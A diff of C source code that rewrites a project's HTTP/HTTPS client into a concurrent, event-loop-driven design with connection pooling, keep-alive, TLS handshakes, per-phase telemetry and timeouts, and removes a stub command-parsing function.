+    printf("[DEBUG] TLS handshake with %s:%d (%s)\n", conn->hostname, conn->port,
+           tls_session_reused(conn->tls) ? "resumed" : "full");
+#endif
+#endif
+
+    ex->state = EXCHANGE_SENDING;
+    ex->phase_started_us = telemetry_now_us();
+    ex->deadline_ms = deadline_after(g_io_timeout);
+    return 1;
+}
+
+static int exchange_send(http_exchange_t* ex) {
+    http_batch_request_t* request = ex->request;
+    size_t total = ex->head_len + ex->body_len;
+    
+    while (ex->sent < total) {
+        long sent = conn_send(ex->conn, ex->head, ex->head_len, ex->body, ex->body_len, ex->sent);
+        if (sent == HTTP_IO_WANT_READ || sent == HTTP_IO_WANT_WRITE) {
+            exchange_watch(ex, sent);
+            return 0;
+        }
+        if (sent < 0) {
+            return exchange_retry_stale(ex) || exchange_fail(ex, TELEMETRY_SEND);
+        }
+        ex->sent += sent;
+        ex->deadline_ms = deadline_after(g_io_timeout);
+    }
+    
+    telemetry_record(TELEMETRY_SEND, ex->phase_started_us);
+    
+    // From here phase_started_us is the start of the wait for a reply
+    ex->state = EXCHANGE_RECEIVING;
+    ex->phase_started_us = telemetry_now_us();
+    ex->deadline_ms = deadline_after(reply_timeout(request));
+    request->response->size = 0;
+    request->response->status_code = 0;
+    http_parser_init(&ex->parser);
+    return 1;
+}
+
+static int exchange_receive(http_exchange_t* ex) {
+    http_batch_request_t* request = ex->request;
+    http_response_t* response = request->response;
+    char buffer[4096];
+    
+    while (ex->parser.state != HTTP_PARSE_DONE) {
+        long received;
+        
+        if (ex->parser.state == HTTP_PARSE_BODY) {
+            // The body buffer is already sized from Content-Length; read straight into it
+            received = conn_recv(ex->conn, response->data + response->size, ex->parser.remaining);
+            if (received > 0) {
+                http_parser_body_received(&ex->parser, response, received);
+            }
+        } else {
+            received = conn_recv(ex->conn, buffer, sizeof(buffer));
+            if (received > 0 && http_parser_feed(&ex->parser, response, buffer, received) < 0) {
+                return exchange_fail(ex, TELEMETRY_RECEIVE);
+            }
+        }
+        
+        if (received == HTTP_IO_WANT_READ || received == HTTP_IO_WANT_WRITE) {
+            exchange_watch(ex, received);
+            return 0;
+        }
+        if (received <= 0) {
+            if (ex->received == 0) {
+                // Peer closed before answering: stale if pooled, a real failure if fresh
+                return exchange_retry_stale(ex) || exchange_fail(ex, wait_phase(request));
+            }
+            if (http_parser_finish(&ex->parser) != 0) {
+                return exchange_fail(ex, TELEMETRY_RECEIVE);
+            }
+            break;
+        }
+        if (ex->received == 0) {
+            telemetry_record(wait_phase(request), ex->phase_started_us);
+            ex->phase_started_us = telemetry_now_us();
+        }
+        ex->received += received;
+        ex->deadline_ms = deadline_after(g_io_timeout);
+    }
+    
+    telemetry_record(TELEMETRY_RECEIVE, ex->phase_started_us);
+    ex->reusable = ex->parser.keep_alive && ex->parser.state == HTTP_PARSE_DONE;
+    ex->state = EXCHANGE_DONE;
+    return 0;
+}
+
+// Runs the exchange until it has to wait on the socket or has finished
+static void exchange_advance(http_exchange_t* ex) {
+    int progressed = 1;
+    while (progressed) {
+        switch (ex->state) {
+            case EXCHANGE_CONNECTING: progressed = exchange_connected(ex); break;
+            case EXCHANGE_HANDSHAKE: progressed = exchange_handshake(ex); break;
+            case EXCHANGE_SENDING: progressed = exchange_send(ex); break;
+            case EXCHANGE_RECEIVING: progressed = exchange_receive(ex); break;
+            default: progressed = 0; break;
+        }
+    }
+    
+    // A finished exchange's socket must not keep waking the loop for the others
+    if ((ex->state == EXCHANGE_DONE || ex->state == EXCHANGE_FAILED) && ex->conn->sockfd >= 0) {
+        event_loop_set(&g_loop, ex->conn->sockfd, 0, NULL);
+    }
+}
+
+// A deadline passed; nothing is resent, since the listener may already have acted on it
+static void exchange_timeout(http_exchange_t* ex) {
+    telemetry_phase_t phase = TELEMETRY_RECEIVE;
+    if (ex->state == EXCHANGE_CONNECTING) {
+        resolver_race_abort(&ex->race);
+        phase = TELEMETRY_CONNECT;
+    } else if (ex->state == EXCHANGE_HANDSHAKE) {
+        phase = TELEMETRY_TLS;
+    } else if (ex->state == EXCHANGE_SENDING) {
+        phase = TELEMETRY_SEND;
+    } else if (ex->received == 0) {
+        phase = wait_phase(ex->request);
+    }
+    exchange_fail(ex, phase);
+    if (ex->conn->sockfd >= 0) {
+        event_loop_set(&g_loop, ex->conn->sockfd, 0, NULL);
+    }
+}
+
+static int exchange_begin(http_exchange_t* ex, http_batch_request_t* request) {
     char hostname[256];
     int port;
     char path[512];
     int use_ssl;
+    int secure = request->secure;
     
-    if (parse_url(url, hostname, &port, path, &use_ssl) != 0) {
-        return -1;
+    memset(ex, 0, offsetof(http_exchange_t, head));
+    ex->request = request;
+    ex->state = EXCHANGE_FAILED;
+    
+#ifdef BEACON_NO_TLS
+    if (secure) {
+        // Built without OpenSSL; fall back to HTTP (not secure!)
+        printf("Warning: HTTPS not available in this build, falling back to HTTP\n");
+        secure = 0;
     }
+#endif
     
-    // Create socket
-    int sockfd = socket(AF_INET, SOCK_STREAM, 0);
-    if (sockfd < 0) {
+    if (parse_url(request->url, hostname, &port, path, &use_ssl) != 0) {
         return -1;
     }
     
-    // Resolve hostname
-    struct hostent* host = gethostbyname(hostname);
-    if (!host) {
-        close(sockfd);
+    int head_len = http_format_request(ex->head, sizeof(ex->head), request->method, path, hostname,
+                                       request->headers, request->data_len, g_keep_alive);
+    if (head_len < 0) {
         return -1;
     }
+    ex->head_len = head_len;
+    ex->body = request->data;
+    ex->body_len = request->data_len;
     
-    // Connect to server
-    struct sockaddr_in server_addr;
-    memset(&server_addr, 0, sizeof(server_addr));
-    server_addr.sin_family = AF_INET;
-    server_addr.sin_port = htons(port);
-    memcpy(&server_addr.sin_addr.s_addr, host->h_addr, host->h_length);
-    
-    if (connect(sockfd, (struct sockaddr*)&server_addr, sizeof(server_addr)) < 0) {
-        close(sockfd);
+    ex->conn = claim_connection(hostname, port, secure, secure ? request->verify_ssl : 0, &ex->reused);
+    if (!ex->conn) {
         return -1;
     }
     
-    // Build HTTP request
-    char request[MAX_BUFFER_SIZE];
-    int request_len = snprintf(request, sizeof(request),
-        "%s %s HTTP/1.1\r\n"
-        "Host: %s\r\n"
-        "%s"
-        "Connection: close\r\n"
-        "\r\n",
-        method, path, hostname, headers);
-    
-    if (data) {
-        request_len += snprintf(request + request_len, sizeof(request) - request_len, "%s", data);
+    // TLS can't gather, and a second record for a small body costs more than copying it
+    if (secure && ex->head_len + ex->body_len <= sizeof(ex->head)) {
+        memcpy(ex->head + ex->head_len, ex->body, ex->body_len);
+        ex->head_len += ex->body_len;
+        ex->body_len = 0;
     }
     
-    // Send request
-    if (send(sockfd, request, request_len, 0) < 0) {
-        close(sockfd);
-        return -1;
+    if (ex->reused) {
+        ex->state = EXCHANGE_SENDING;
+        ex->phase_started_us = telemetry_now_us();
+        ex->deadline_ms = deadline_after(g_io_timeout);
+    } else {
+        exchange_connect(ex);
+    }
+    return 0;
+}
+
+static void exchange_finish(http_exchange_t* ex) {
+    if (ex->state == EXCHANGE_DONE) {
+        ex->request->result = 0;
+    } else {
+        http_response_release(ex->request->response);
     }
     
-    // Read response
-    char buffer[4096];
-    response->data = malloc(1);
-    response->size = 0;
-    int bytes_received;
+    if (!ex->conn) {
+        return;
+    }
+    if (ex->state == EXCHANGE_DONE && g_keep_alive && ex->reusable) {
+        // Back to the pool unwatched; a stale one is caught when the next request uses it
+        ex->conn->busy = 0;
+    } else {
+        forget_connection(ex->conn);
+    }
+}
+
+// Up to HTTP_MAX_CONNECTIONS requests at once, each on its own connection
+static int run_batch(http_batch_request_t* requests, int count) {
+    event_t ready[EVENT_LOOP_MAX_READY];
+    int failed = 0;
     
-    while ((bytes_received = recv(sockfd, buffer, sizeof(buffer), 0)) > 0) {
-        response->data = realloc(response->data, response->size + bytes_received + 1);
-        memcpy(response->data + response->size, buffer, bytes_received);
-        response->size += bytes_received;
+    for (int i = 0; i < count; i++) {
+        requests[i].result = -1;
+        if (exchange_begin(&g_exchanges[i], &requests[i]) == 0) {
+            exchange_advance(&g_exchanges[i]);
+        }
     }
     
-    if (response->data) {
-        response->data[response->size] = '\0';
+    for (;;) {
+        long now = event_loop_now_ms();
+        long wake = -1;
+        int running = 0;
+        
+        for (int i = 0; i < count; i++) {
+            http_exchange_t* ex = &g_exchanges[i];
+            if (ex->state == EXCHANGE_DONE || ex->state == EXCHANGE_FAILED) {
+                continue;
+            }
+            if (now >= ex->deadline_ms) {
+                exchange_timeout(ex);
+                continue;
+            }
+            
+            // Sleep until the nearest deadline or the next connect attempt
+            long due = ex->deadline_ms;
+            long attempt = ex->state == EXCHANGE_CONNECTING ? resolver_race_wakeup(&ex->race) : -1;
+            if (attempt >= 0 && attempt < due) {
+                due = attempt;
+            }
+            if (wake < 0 || due < wake) {
+                wake = due;
+            }
+            running++;
+        }
+        if (running == 0) {
+            break;
+        }
+        
+        int timeout = wake > now ? (int)(wake - now) : 0;
+        int fired = event_loop_wait(&g_loop, ready, EVENT_LOOP_MAX_READY, timeout);
+        if (fired < 0) {
+            for (int i = 0; i < count; i++) {
+                if (g_exchanges[i].state != EXCHANGE_DONE && g_exchanges[i].state != EXCHANGE_FAILED) {
+                    exchange_timeout(&g_exchanges[i]);
+                }
+            }
+            break;
+        }
+        
+        for (int i = 0; i < fired; i++) {
+            http_exchange_t* ex = ready[i].data;
+            if (ex && ex->state != EXCHANGE_CONNECTING) {
+                exchange_advance(ex);
+            }
+        }
         
-        // Parse status code from response
-        char* status_line = strstr(response->data, "HTTP/1.1 ");
-        if (status_line) {
-            response->status_code = atoi(status_line + 9);
+        // Connect races check their own sockets, and may have an attempt due
+        for (int i = 0; i < count; i++) {
+            if (g_exchanges[i].state == EXCHANGE_CONNECTING) {
+                exchange_advance(&g_exchanges[i]);
+            }
         }
     }
     
-    close(sockfd);
-    return 0;
+    for (int i = 0; i < count; i++) {
+        exchange_finish(&g_exchanges[i]);
+        failed += requests[i].result != 0;
+    }
+    return failed;
+}
+
+// Drives the requests concurrently; returns 0 when every one of them got a complete reply,
+// and each request's result says which did
+int http_request_many(http_batch_request_t* requests, int count) {
+    int failed = 0;
+    
+    if (transport_init() != 0) {
+        for (int i = 0; i < count; i++) {
+            requests[i].result = -1;
+        }
+        return -1;
+    }
+    
+    for (int first = 0; first < count; first += HTTP_MAX_CONNECTIONS) {
+        int batch = count - first < HTTP_MAX_CONNECTIONS ? count - first : HTTP_MAX_CONNECTIONS;
+        failed += run_batch(requests + first, batch);
+    }
+    return failed > 0 ? -1 : 0;
+}
+#endif
+
+int http_request(const char* method, const char* url, const char* headers,
+                const char* data, size_t data_len, http_response_t* response) {
+    http_batch_request_t request = { method, url, headers, data, data_len, 0, 0, 0, response, -1 };
+    return http_request_many(&request, 1);
 }
 
 int https_request(const char* method, const char* url, const char* headers,
-                 const char* data, http_response_t* response, int verify_ssl) {
-    // Simplified HTTPS implementation - in a real implementation,
-    // you would use OpenSSL or similar library
-    // For now, fall back to HTTP (not secure!)
-    printf("Warning: HTTPS not fully implemented, falling back to HTTP\n");
-    return http_request(method, url, headers, data, response);
+                 const char* data, size_t data_len, http_response_t* response, int verify_ssl) {
+    http_batch_request_t request = { method, url, headers, data, data_len, 1, verify_ssl, 0, response, -1 };
+    return http_request_many(&request, 1);
 }
 
-#endif
+// Request line and headers for a body of data_len bytes; returns the length, or -1
+// when it does not fit in the buffer
+int http_format_request(char* buffer, size_t size, const char* method, const char* path,
+                        const char* hostname, const char* headers, size_t data_len, int keep_alive) {
+    int length = snprintf(buffer, size,
+        "%s %s HTTP/1.1\r\n"
+        "Host: %s\r\n"
+        "%s"
+        "Content-Length: %zu\r\n"
+        "Connection: %s\r\n"
+        "\r\n",
+        method, path, hostname, headers, data_len,
+        keep_alive ? "keep-alive" : "close");
+    
+    return length >= 0 && (size_t)length < size ? length : -1;
+}
 
 int parse_url(const char* url, char* hostname, int* port, char* path, int* use_ssl) {
     *use_ssl = 0;
@@ -398,19 +1140,3 @@ int parse_url(const char* url, char* hostname, int* port, char* path, int* use_s
     
     return 0;
 }
-
-static int parse_commands_json(const char* json, command_t** commands) {
-    // Simplified JSON parsing for commands array
-    // In a real implementation, use a proper JSON library
-    
-    char* commands_start = strstr(json, "\"commands\":[");
-    if (!commands_start) {
-        *commands = NULL;
-        return 0;
-    }
-    
-    // For now, return empty command list
-    // Full JSON parsing would be implemented here
-    *commands = NULL;
-    return 0;
-}